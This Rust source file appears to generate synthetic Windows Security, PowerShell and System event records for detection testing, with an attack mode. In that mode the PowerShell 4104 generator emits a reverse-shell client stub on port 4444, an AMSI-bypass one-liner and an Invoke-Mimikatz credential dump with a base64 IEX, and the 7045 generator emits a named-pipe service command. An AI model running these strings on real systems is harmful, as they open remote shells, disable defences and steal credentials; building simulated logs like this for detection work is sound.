//! The Security, PowerShell and System channels.

use super::super::World;
use super::super::object::Object;
use super::{System, process_guid, program, system};

const fn security(id: u64, task: u64, keywords: &'static str, category: &'static str) -> System {
    System {
        id,
        channel: "Security",
        provider: "Microsoft-Windows-Security-Auditing",
        task,
        keywords,
        category,
        service: "security",
    }
}

const SUCCESS: &str = "0x8020000000000000";
const FAILURE: &str = "0x8010000000000000";

fn subject(object: &mut Object, world: &mut World) {
    let user = world.user();
    object.text(
        "SubjectUserSid",
        &format!("S-1-5-21-3623811015-3361044348-30300820-{}", 1100 + user.len()),
    );
    object.text("SubjectUserName", user);
    object.text("SubjectDomainName", "CORP");
    object.text("SubjectLogonId", &format!("0x{:x}", world.random.below(0xff_ffff)));
}

/// Event 4624.
pub(super) fn logon(object: &mut Object, world: &mut World) {
    system(object, world, &security(4624, 12_544, SUCCESS, "authentication"));
    subject(object, world);
    let user = world.user();
    object.text(
        "TargetUserSid",
        &format!("S-1-5-21-3623811015-3361044348-30300820-{}", 1100 + user.len()),
    );
    object.text("TargetUserName", user);
    object.text("TargetDomainName", "CORP");
    object.text("TargetLogonId", &format!("0x{:x}", world.random.below(0xff_ffff)));
    object.number("LogonType", if world.attack { 9 } else { 3 });
    object.text("LogonProcessName", if world.attack { "seclogo" } else { "Kerberos" });
    object.text("AuthenticationPackageName", if world.attack { "Negotiate" } else { "Kerberos" });
    object.text("WorkstationName", &format!("PC{:03}", world.host));
    object.text("LogonGuid", &process_guid(world));
    object.text("TransmittedServices", "-");
    object.text("LmPackageName", "-");
    object.number("KeyLength", 0);
    object.text("ProcessId", "0x0");
    object.text("ProcessName", "-");
    object.text("IpAddress", &format!("10.20.{}.{}", world.host % 4, world.host + 10));
    object.number("IpPort", 49_152 + world.random.below(16_000));
    object.text("ImpersonationLevel", "%%1833");
    object.text("ElevatedToken", "%%1843");
}

/// Event 4625.
pub(super) fn failed_logon(object: &mut Object, world: &mut World) {
    system(object, world, &security(4625, 12_544, FAILURE, "authentication"));
    subject(object, world);
    object.text("TargetUserSid", "S-1-0-0");
    object.text("TargetUserName", world.user());
    object.text("TargetDomainName", "CORP");
    object.text("Status", "0xc000006d");
    object.text("FailureReason", "%%2313");
    object.text("SubStatus", "0xc000006a");
    object.number("LogonType", 3);
    object.text("LogonProcessName", "NtLmSsp ");
    object.text("AuthenticationPackageName", "NTLM");
    object.text("WorkstationName", &format!("PC{:03}", world.host));
    object.text("IpAddress", &world.random.address().to_string());
    object.number("IpPort", 49_152 + world.random.below(16_000));
}

/// Event 4672.
pub(super) fn special_privileges(object: &mut Object, world: &mut World) {
    system(object, world, &security(4672, 12_548, SUCCESS, "authentication"));
    subject(object, world);
    object.text("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege");
}

/// Event 4688.
pub(super) fn process_creation(object: &mut Object, world: &mut World) {
    let program = program(world);
    system(object, world, &security(4688, 13_312, SUCCESS, "process_creation"));
    subject(object, world);
    object.text("NewProcessId", &format!("0x{:x}", 4 * world.random.below(8000)));
    object.text("NewProcessName", program.image);
    object.text("TokenElevationType", "%%1938");
    object.text("ProcessId", &format!("0x{:x}", 4 * world.random.below(8000)));
    let command = world.random.pick(program.commands);
    object.text("CommandLine", &world.fill(command));
    object.text("TargetUserSid", "S-1-0-0");
    object.text("TargetUserName", "-");
    object.text("TargetDomainName", "-");
    object.text("TargetLogonId", "0x0");
    object.text("ParentProcessName", program.parent);
    object.text("MandatoryLabel", "S-1-16-8192");
}

/// Event 5156.
pub(super) fn permitted_connection(object: &mut Object, world: &mut World) {
    let program = program(world);
    system(object, world, &security(5156, 12_810, SUCCESS, "firewall"));
    object.number("ProcessID", 4 * world.random.below(8000));
    object.text("Application", &program.image.replacen("C:", r"\device\harddiskvolume3", 1));
    object.text("Direction", "%%14593");
    object.text("SourceAddress", &format!("10.20.{}.{}", world.host % 4, world.host + 10));
    object.number("SourcePort", 49_152 + world.random.below(16_000));
    object.text("DestAddress", &world.random.address().to_string());
    object.number("DestPort", 443);
    object.number("Protocol", 6);
    object.number("FilterRTID", world.random.below(100_000));
    object.text("LayerName", "%%14611");
    object.number("LayerRTID", 48);
    object.text("RemoteUserID", "S-1-0-0");
    object.text("RemoteMachineID", "S-1-0-0");
}

/// Event 4104.
pub(super) fn script_block(object: &mut Object, world: &mut World) {
    let powershell = System {
        id: 4104,
        channel: "Microsoft-Windows-PowerShell/Operational",
        provider: "Microsoft-Windows-PowerShell",
        task: 2,
        keywords: "0x0",
        category: "ps_script",
        service: "powershell",
    };
    system(object, world, &powershell);
    object.number("MessageNumber", 1);
    object.number("MessageTotal", 1);
    let script = world.random.pick(if world.attack {
        &[
            "$c = New-Object System.Net.Sockets.TCPClient('<ip>',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i)}",
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
            "Invoke-Mimikatz -DumpCreds; IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('<base64>')))",
        ]
    } else {
        &[
            "function Get-<word>Inventory {\n    param([string]$Site = '<word>', [int]$Batch = <n>)\n    $items = Get-ChildItem -Path \"C:\\ops\\$Site\" -Filter *.csv -Recurse\n    foreach ($item in $items) {\n        $rows = Import-Csv -Path $item.FullName\n        Write-Verbose (\"{0}: {1} rows\" -f $item.Name, $rows.Count)\n        $rows | Where-Object { $_.Batch -eq $Batch } | Select-Object Name, Owner, Changed\n    }\n}",
            "Get-Service -Name '<word>svc' | Select-Object -Property Name, Status, StartType | ConvertTo-Json -Compress",
            "$report = @{ Host = $env:COMPUTERNAME; Run = '<guid>'; Free = (Get-PSDrive C).Free }\n$report | ConvertTo-Json | Set-Content -Path 'C:\\ops\\<word>-<n>.json'",
        ]
    });
    object.text("ScriptBlockText", &world.fill(script));
    object.text("ScriptBlockId", &world.guid());
    object.text("Path", &world.fill(r"C:\ops\scripts\collect-<word>.ps1"));
}

/// Event 7045.
pub(super) fn new_service(object: &mut Object, world: &mut World) {
    let manager = System {
        id: 7045,
        channel: "System",
        provider: "Service Control Manager",
        task: 0,
        keywords: "0x8080000000000000",
        category: "service_installed",
        service: "system",
    };
    system(object, world, &manager);
    let (name, path) = if world.attack {
        ("<word><n>", r"%COMSPEC% /C echo <word> ^> \\.\pipe\<word>")
    } else {
        ("<word> update service", r#""C:\Program Files\<word>\update\<word>svc.exe" --service"#)
    };
    object.text("ServiceName", &world.fill(name));
    object.text("ImagePath", &world.fill(path));
    object.text("ServiceType", "user mode service");
    object.text("StartType", "demand start");
    object.text("AccountName", "LocalSystem");
}
